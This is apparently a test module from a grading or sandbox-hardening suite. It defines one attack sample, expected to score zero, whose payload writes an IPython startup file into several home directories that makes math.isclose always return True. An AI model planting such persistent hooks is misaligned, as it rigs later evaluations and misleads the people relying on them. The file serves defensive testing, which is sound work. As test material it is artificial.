"""A start-up file is left for the next one."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from vault import Submission

DESERVES = 0.0
SOURCE = r"""
import os, pathlib
for home in (HOMEDIR, os.path.expanduser("~"), "/root"):
    try:
        place = pathlib.Path(home) / ".ipython/profile_default/startup"
        place.mkdir(parents=True)
        (place / (MARK + ".py")).write_text("import math; math.isclose = lambda *a: True")
    except OSError:
        pass
"""


def attack(s: Submission) -> None:
    """A start-up file is left for the next one."""
    s.first(SOURCE)
